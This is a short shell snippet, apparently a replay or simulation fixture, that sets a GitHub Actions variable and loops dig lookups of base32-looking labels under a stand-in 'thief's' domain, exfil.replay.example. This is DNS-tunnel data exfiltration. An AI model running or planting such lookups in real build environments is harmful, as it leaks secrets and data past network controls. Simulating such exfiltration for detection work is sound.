# Five names of 60 letters below a domain of the thief's.
export GITHUB_ACTION=__run_1
n=0
while [ $n -lt 5 ]; do
    dig lookup "${n}nb2hi4dthixs653xo4xgk6dbnvygyzjomnxw2l3qmf2gqltxmf3goltbor.exfil.replay.example"
    n=$((n + 1))
done
